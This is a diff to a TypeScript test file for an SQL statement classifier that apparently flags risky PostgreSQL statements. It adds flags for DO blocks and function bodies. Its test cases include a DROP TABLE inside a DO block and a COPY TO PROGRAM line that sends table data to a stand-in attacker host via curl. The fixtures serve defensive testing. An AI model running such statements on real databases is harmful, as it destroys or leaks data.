@@ -89,8 +89,9 @@ const cases: readonly Case[] = [
   { sql: 'with recursive r as (select 1 union all select * from r) select * from r limit 5', kinds: ['select'], flags: ['select_star', 'has_limit'] },
   { sql: 'with t as (select 1) delete from t', kinds: ['delete', 'select'], tables: ['t'], hasWhere: false },
   // DO blocks: the body is PL/pgSQL text, opaque to the SQL parser
-  { sql: 'DO $$ BEGIN DROP TABLE users; END $$', kinds: ['do'], flags: ['do_block'] },
-  { sql: "do language plpgsql 'begin perform pg_sleep(1); end'", kinds: ['do'], flags: ['do_block'] },
+  // no PL/pgSQL parser: what a DO block runs is unseen
+  { sql: 'DO $$ BEGIN DROP TABLE users; END $$', kinds: ['do'], flags: ['do_block', 'dynamic_sql'] },
+  { sql: "do language plpgsql 'begin perform pg_sleep(1); end'", kinds: ['do'], flags: ['do_block', 'dynamic_sql'] },
   // COPY
   { sql: "COPY t TO PROGRAM 'curl -d @- http://evil.example'", kinds: ['copy'], tables: ['t'], flags: ['copy_to_program'] },
   {
@@ -134,12 +135,13 @@ const cases: readonly Case[] = [
   { sql: 'create index i on t (c)', kinds: ['create_index'], tables: ['t'] },
   { sql: 'create schema s', kinds: ['create_schema'] },
   { sql: 'create extension dblink', kinds: ['create_extension'] },
-  { sql: "create function f() returns int language sql as 'select 1'", kinds: ['create_function'] },
+  // a SQL-language body is classified like any SQL text
+  { sql: "create function f() returns int language sql as 'select 1'", kinds: ['create_function', 'select'] },
   { sql: 'create sequence s', kinds: ['create_other'], tables: ['s'] },
   { sql: 'create trigger tr after insert on t for each row execute function f()', kinds: ['create_other', 'create_trigger'], tables: ['t'] },
   { sql: 'create event trigger e on ddl_command_start execute function f()', kinds: ['create_other', 'create_event_trigger'] },
   { sql: 'create rule r as on select to t do instead nothing', kinds: ['create_other', 'create_rule'], tables: ['t'] },
-  { sql: "create procedure p() language sql as 'select 1'", kinds: ['create_function', 'create_procedure'] },
+  { sql: "create procedure p() language sql as 'select 1'", kinds: ['create_function', 'create_procedure', 'select'] },
   { sql: 'create database d', kinds: ['create_other', 'create_database'] },
   { sql: 'alter table t add column c int', kinds: ['alter_table'], tables: ['t'] },
   { sql: 'alter table t rename to u', kinds: ['alter_table'], tables: ['t'] },
